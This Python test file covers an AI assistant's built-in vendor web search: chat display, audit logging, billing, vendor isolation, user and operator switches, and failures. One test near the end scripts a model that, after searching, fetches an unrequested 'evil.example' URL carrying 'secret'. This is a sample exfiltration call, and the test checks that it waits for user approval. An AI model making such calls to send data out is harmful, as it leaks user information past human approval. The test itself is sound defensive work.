"""A vendor searches by itself in a turn: what is shown, logged, paid and forbidden."""

import json
from decimal import Decimal

import pytest

from assistant.agent.tools.web import web_search
from assistant.agent.vendor_search import BROKE_OFF
from assistant.config import settings
from assistant.services import audit_chain, turns
from assistant.services.audit_queries import Filters
from assistant.services.permissions import set_rule
from tests.services.calls import told
from tests.services.talk import (
    ask,
    ended,
    entries,
    eventually,
    parts_from,
    rows,
    say,
    text_of,
    until_entry,
    wish,
)
from tests.vendors import Call, Say, Script, Search

SEARCH = Search("green tea")
SEARCHED = Script((Say(("Let me look.",)), SEARCH, Say(("Tea is a drink.",))))
OFFERS = ("web_search_20250305", '"type": "web_search"', "googleSearch")
SEALED = "c2VhbGVkLXBhZ2U="
URL = "https://tea.example/all"
QUESTION = "What is green tea?"


def bodies(vendors, *, titles=False) -> list[str]:
    """What the vendors were sent for answers, or for titles."""
    sent = [json.dumps(seen.body) for seen in vendors.requests]
    return [body for body in sent if ("Write a title" in body) == titles]


def offered(body: str) -> bool:
    return any(offer in body for offer in OFFERS)


@pytest.fixture(params=["claude-sonnet-5-5", "gpt-6.2-sol", "gemini-4-argon"])
def model(request) -> str:
    return request.param


async def searched(user, vendors, model="claude-sonnet-5-5", script=SEARCHED):
    """A turn in which the vendor of this model has searched."""
    vendor = {"c": "anthropic", "gp": "openai", "ge": "google"}
    vendors.then(next(v for k, v in vendor.items() if model.startswith(k)), script)
    return await turns.send(user.id, None, QUESTION, wish(model=model))


async def test_a_search_is_a_line_in_the_chat_like_a_call_of_our_own(alice, vendors, model):
    started = await searched(alice, vendors, model)
    state = await ended(alice, started)
    assert (state.status, state.end["error"]) == ("done", "")
    assert [part["type"] for part in state.parts] == ["text", "tool", "text"]
    line = state.parts[1]
    assert (line["name"], line["label"]) == ("web_search", web_search.label)
    assert (line["state"], line["untrusted"]) == ("done", True)
    assert line["arguments"]["query"] == "green tea"
    assert [source["url"] for source in line["sources"]] == [URL]
    assert line["seconds"] >= 0
    assert not {"replay", "vendor"} & line.keys()
    followed = parts_from(await entries(started.turn_id))
    assert [(p["type"], p.get("state")) for p in followed] == [
        (p["type"], p.get("state")) for p in state.parts
    ]


async def test_a_search_stands_in_the_log_with_what_left_for_whom(alice, vendors, model):
    await ended(alice, await searched(alice, vendors, model))
    (entry,) = await told(alice, Filters(what="web_search"))
    asked = json.loads(entry.asked)
    assert asked["query"] == "green tea"
    assert asked["engine"] in ("Anthropic", "OpenAI", "Google")
    assert (entry.status, entry.effect) == ("done", "read")
    assert entry.approved_by == "No need to ask: reads only"
    assert URL in entry.answered
    assert (await audit_chain.verify(alice.id)).broken == 0


async def test_a_search_is_paid_with_the_request(alice, vendors, db, model):
    await ended(alice, await searched(alice, vendors, model))
    query = "select * from usage_logs where user_id = $1 and purpose = 'answer'"
    (usage,) = await rows(db, query, alice.id)
    assert json.loads(usage["metadata"]) == {"searches": 1}
    price = Decimal("0.014") if model.startswith("gemini") else Decimal("0.01")
    assert price < usage["cost"] < price + Decimal("0.002")


async def test_later_turns_of_the_conversation_go_without_a_search(alice, vendors, model):
    started = await searched(alice, vendors, model)
    await ended(alice, started)
    await ask(alice, "And black tea?", started.conversation_id)
    first, second = bodies(vendors)
    assert offered(first)
    assert not offered(second)


async def test_what_was_found_goes_back_to_the_same_vendor_and_to_no_other(alice, vendors):
    started = await searched(alice, vendors)
    await ended(alice, started)
    await ask(alice, "And black tea?", started.conversation_id)
    again = wish(model="gpt-6.2-sol")
    other = await turns.send(alice.id, started.conversation_id, "And red?", again)
    await ended(alice, other)
    _, same, elsewhere = bodies(vendors)
    assert SEALED in same
    assert "server_tool_use" in same
    assert SEALED not in elsewhere
    assert "green tea" not in elsewhere.replace(QUESTION, "")
    assert "Tea is a drink." in elsewhere


@pytest.mark.parametrize("rule", ["off", "ask"])
async def test_the_users_rule_forbids_it(alice, vendors, rule):
    await set_rule(alice.id, "web_search", rule)
    await ask(alice, QUESTION)
    (body,) = bodies(vendors)
    assert not offered(body)


async def test_titles_are_written_without_a_search(alice, vendors):
    await ask(alice, QUESTION)

    async def titled():
        return bodies(vendors, titles=True)

    assert not any(map(offered, await eventually(titled)))


@pytest.mark.parametrize(
    ("name", "value"), [("SEARXNG_URL", "http://search.example"), ("VENDOR_SEARCH", "off")]
)
async def test_an_engine_or_the_operator_takes_its_place(alice, vendors, monkeypatch, name, value):
    monkeypatch.setenv(name, value)
    settings.cache_clear()
    await ask(alice, QUESTION)
    (body,) = bodies(vendors)
    assert not offered(body)
    assert ('"web_search"' in body) == (name == "SEARXNG_URL")


async def test_who_goes_on_after_a_search_does_not_search_again(alice, vendors, db):
    cut = Script((SEARCH, Say(("Tea ", "is "))), fault="cut", after=3)
    vendors.then("anthropic", cut)
    state = await ask(alice, QUESTION)
    assert state.status == "done"
    assert [part["type"] for part in state.parts] == ["tool", "text", "continued", "text"]
    first, second = bodies(vendors)
    assert offered(first)
    assert not offered(second)
    query = "select provider, cost from usage_logs where user_id = $1 and purpose = 'answer'"
    costs = {row["provider"]: row["cost"] for row in await rows(db, query, alice.id)}
    assert costs["anthropic"] > Decimal("0.01") > costs["openai"]


async def test_who_stands_in_before_a_search_may_search(alice, vendors):
    vendors.then("anthropic", Script(status=529))
    vendors.then("openai", SEARCHED)
    state = await ask(alice, QUESTION)
    assert state.parts[1]["arguments"] == {"query": "green tea", "engine": "OpenAI"}


async def test_a_page_that_nobody_named_is_asked_for_after_a_search(alice, vendors):
    reads = Call("web_fetch", (json.dumps({"url": "https://evil.example/?q=secret"}),))
    vendors.then("anthropic", Script((SEARCH, reads)))
    state = await ask(alice, QUESTION)
    assert state.status == "waiting"
    card = state.parts[-1]["approval"]
    assert "https://evil.example/?q=secret" in json.dumps(card)


async def test_a_query_has_left_also_where_the_answer_is_stopped(alice, vendors, db):
    hangs = Script((SEARCH, Say(("Tea",))), fault="hang", after=1)
    started = await searched(alice, vendors, "gemini-4-argon", hangs)
    await until_entry(started.turn_id, 1)
    await turns.stop(alice.id, started.turn_id, 1)
    state = await ended(alice, started)
    assert state.status == "stopped"
    (line,) = state.parts
    assert (line["state"], line["arguments"]["query"]) == ("failed", "green tea")
    (entry,) = await told(alice, Filters(what="web_search"))
    assert (entry.status, entry.answered) == ("failed", BROKE_OFF)
    assert json.loads(entry.asked)["query"] == "green tea"
    query = "select cost from usage_logs where user_id = $1 and purpose = 'answer'"
    (usage,) = await rows(db, query, alice.id)
    assert usage["cost"] > Decimal("0.014")
    await ask(alice, "And black tea?", started.conversation_id)
    assert not offered(bodies(vendors)[-1])


async def test_a_search_that_fails_is_said_and_forbids_nothing_later(alice, vendors):
    failed = Script((Search("green tea", error="unavailable"), Say(("I do not know.",))))
    started = await searched(alice, vendors, script=failed)
    state = await ended(alice, started)
    assert state.parts[0]["state"] == "failed"
    assert "did not work: unavailable" in state.parts[0]["result"]
    assert text_of(state.parts) == "I do not know."
    await ended(alice, await say(alice, "Try again.", started.conversation_id))
    assert all(map(offered, bodies(vendors)))
